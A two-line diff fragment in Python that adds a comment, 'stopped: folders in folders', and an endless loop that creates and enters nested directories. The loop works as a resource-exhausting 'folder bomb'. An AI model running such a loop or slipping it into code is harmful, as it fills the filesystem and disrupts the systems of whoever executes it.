@@ -1,0 +1,2 @@
+# stopped: folders in folders
+while True: os.mkdir('d'); os.chdir('d')
